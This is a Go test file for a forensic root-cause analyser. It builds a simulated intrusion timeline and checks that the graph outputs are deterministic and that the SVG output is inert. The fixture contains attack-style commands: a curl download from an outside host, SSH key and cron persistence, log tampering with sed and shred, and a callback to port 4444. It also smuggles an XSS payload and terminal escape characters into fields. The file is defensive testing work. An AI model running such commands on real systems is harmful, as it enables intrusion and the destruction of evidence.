package rootcause_test

import (
	"bytes"
	"encoding/xml"
	"io"
	"path/filepath"
	"testing"
	"time"

	"github.com/exhibit-dfir/exhibit/analyze/rootcause"
	"github.com/exhibit-dfir/exhibit/internal/testenv"
	"github.com/exhibit-dfir/exhibit/timeline"
	"github.com/exhibit-dfir/exhibit/timeline/store/memory"
)

// intrusion is a made-up case with something of everything: guessing, a root
// shell, a planted key, a cron job, an edited log, a return.
func intrusion(t *testing.T) (s *story, alert *timeline.Event) {
	s = tell(t, "mail1")
	s.boot()
	s.after(time.Hour).noise(3)
	for _, u := range []string{"root", "admin", "git", "heidi", "heidi", "heidi", "heidi"} {
		s.fail(u, outside)
	}
	_, sh := s.login("heidi", outside, "password", "", 14)
	get := s.exec(sh, "/usr/bin/curl", "curl -so /tmp/kd http://"+outside+"/kd")
	s.connect(get, outside, 80)
	root := s.exec(s.exec(sh, "/usr/bin/sudo", "sudo -s"), "/usr/bin/bash", "/bin/bash")
	root.UID = 0
	s.exec(root, "/usr/bin/cp", "cp /tmp/kd /usr/local/sbin/kd")
	s.write(root, "file-opened-for-write", "/root/.ssh/authorized_keys")
	s.write(root, "file-created", "/etc/cron.d/kd")
	sed := s.exec(root, "/usr/bin/sed", `sed -i "/heidi/d" /var/log/auth.log <script>alert('&')</script>`)
	s.write(sed, "file-renamed", "/var/log/sedAbC").File2 = "/var/log/auth.log"
	s.noise(2)
	run := s.cron("root", "/usr/local/sbin/kd --once")
	run.UID = 0
	kd := s.exec(run, "/usr/local/sbin/kd", "/usr/local/sbin/kd --once")
	alert = s.connect(kd, "198.51.100.77", 4444)
	alert.Message = "connect to 198.51.100.77:4444\x1b[31m\u202e"
	s.after(3 * time.Hour)
	_, back := s.login("root", "198.51.100.77", "publickey", "SHA256:planted", 40)
	s.exec(back, "/usr/bin/shred", "shred /var/log/mail.log")
	return s, alert
}

func TestOutputsAreTheSameBytesEveryTime(t *testing.T) {
	s, alert := intrusion(t)
	for name, write := range map[string]func(*rootcause.Graph, io.Writer) error{
		"json": (*rootcause.Graph).WriteJSON, "dot": (*rootcause.Graph).WriteDOT, "svg": (*rootcause.Graph).WriteSVG,
		"md": (*rootcause.Graph).WriteMarkdown, "txt": (*rootcause.Graph).WriteText,
	} {
		var first []byte
		for range 4 {
			// Another order of the same events must not matter.
			rotated := append(append([]*timeline.Event(nil), s.events[7:]...), s.events[:7]...)
			g, err := rootcause.Why(t.Context(), memory.New(rotated), []timeline.ID{alert.ID}, rootcause.Options{})
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			if err := write(g, &b); err != nil {
				t.Fatal(err)
			}
			if first == nil {
				first = b.Bytes()
			} else if !bytes.Equal(first, b.Bytes()) {
				t.Fatalf("%s differs from one run to the next", name)
			}
		}
		testenv.Golden(t, filepath.Join("testdata", "intrusion."+name), first)
	}
}

func TestDrawingIsWellFormedAndInert(t *testing.T) {
	s, alert := intrusion(t)
	g := ask(t, s)(alert)
	var b bytes.Buffer
	if err := g.WriteSVG(&b); err != nil {
		t.Fatal(err)
	}
	allowed := map[string]bool{"svg": true, "style": true, "rect": true, "text": true, "path": true, "title": true, "line": true}
	dec := xml.NewDecoder(&b)
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if el, ok := tok.(xml.StartElement); ok {
			if !allowed[el.Name.Local] {
				t.Errorf("element <%s>", el.Name.Local)
			}
			for _, a := range el.Attr {
				if a.Name.Local == "href" || len(a.Name.Local) > 2 && a.Name.Local[:2] == "on" {
					t.Errorf("attribute %s on <%s>", a.Name.Local, el.Name.Local)
				}
			}
		}
	}
}
